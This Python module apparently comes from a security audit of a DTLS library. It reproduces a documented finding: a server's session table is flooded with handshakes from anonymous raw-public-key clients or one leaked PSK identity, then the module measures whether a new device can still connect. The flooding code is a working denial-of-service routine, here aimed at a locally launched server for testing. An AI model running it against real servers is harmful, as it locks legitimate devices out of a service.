"""Finding 3: the session table filled by anonymous raw-public-key clients or by one leaked PSK identity.

:func:`fill_sessions` completes many handshakes from one address (one source port each) and keeps every socket
open and served, so sessions stay alive and a close_notify the server sends on eviction is seen. Then a new,
authenticated device tries to get in from another address.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

from iotdtls import DTLSConfiguration

from .attack_common import ServerCommand, ServerProcess, Timers, raise_fd_limit
from .attack_credentials import Credentials
from .attack_fleet import Fleet, Peer

TABLE_LOG = r"full|evict|limit|refus|drop|max[-_ ]sessions|table"


def fill_sessions(fleet: Fleet, config: Callable[[], DTLSConfiguration], server: tuple[str, int], count: int, *,
                  ip: str = "127.0.0.2", timeout: float = 600.0, window: int = 32) -> list[Peer]:
    """Start ``count`` clients from ``ip`` (each on its own port) and handshake them; return the peers."""
    raise_fd_limit(count + len(fleet.peers) + 256)
    peers = [fleet.add(config(), server, ip=ip) for _ in range(count)]
    fleet.handshake_many(peers, timeout, window=window)
    return peers


def run_table(command: ServerCommand, creds: Credentials, timers: Timers, *, kind: str,
              max_sessions: int | None, extra: int = 10, device_budget: float = 10.0,
              filler_budget: float | None = None, settle: float = 0.5) -> dict[str, Any]:
    """Fill the table (``max_sessions``; None: the server's default of 10,000) with ``kind`` "rpk" (anonymous
    raw-public-key clients) or "psk" (the identity ``leaked``), plus ``extra`` more, then try a new device."""
    table = max_sessions if max_sessions is not None else 10000
    if kind == "rpk":
        args = creds.rpk_args(trust_device=True)
        filler: Callable[[], DTLSConfiguration] = creds.anonymous_rpk_client
        device = creds.device_rpk_client()
    else:
        args = creds.psk_args()
        filler = lambda: creds.psk_client(b"leaked")  # noqa: E731
        device = creds.psk_client(b"dev2")
    args += timers.server_args()
    if max_sessions is not None:
        args += ["--max-sessions", str(max_sessions)]
    budget = filler_budget if filler_budget is not None else min(timers.handshake, 4 * timers.initial + 2)

    with ServerProcess(command, args) as server, Fleet() as fleet:
        start = time.monotonic()
        fillers = fill_sessions(fleet, lambda: timers.client(filler(), handshake=budget), server.address,
                                table + extra)
        fill_seconds = time.monotonic() - start
        fleet.sleep(settle)
        established = sum(p.established is not None for p in fillers)
        alive_before = sum(p.conn.is_established for p in fillers)
        dev = fleet.add(timers.client(device, handshake=device_budget), server.address, ip="127.0.0.3")
        t0 = time.monotonic()
        dev_ok = fleet.handshake(dev, device_budget + 1.0)
        dev_seconds = (dev.established or time.monotonic()) - t0
        dev_echo = dev_ok and fleet.echo(dev, b"new device", 2.0)
        fleet.sleep(settle)
        evicted = sum(p.closed_by_server for p in fillers)
        oldest = next((p for p in fillers if p.conn.is_established), None)
        idle_for = time.monotonic() - (oldest.established or 0.0) if oldest else 0.0
        oldest_answers = oldest is not None and fleet.echo(oldest, b"still here?", 2.0)
        table_log = server.grep(TABLE_LOG)
        rss = server.rss_kb()
    return {
        "kind": "anonymous raw public keys" if kind == "rpk" else "one leaked PSK identity",
        "max_sessions": table,
        "fillers_tried": len(fillers),
        "fillers_established": established,
        "fillers_alive_after_fill": alive_before,
        "fill_seconds": round(fill_seconds, 2),
        "device_established": dev_ok,
        "device_seconds": round(dev_seconds, 3),
        "device_budget_s": device_budget,
        "device_echo": dev_echo,
        "fillers_evicted_with_close_notify": evicted,
        "oldest_filler_idle_s": round(idle_for, 1),
        "oldest_filler_still_answers": oldest_answers,
        "server_log_lines_about_the_table": len(table_log),
        "server_log_sample": table_log[:3],
        "server_rss_kb": rss,
    }
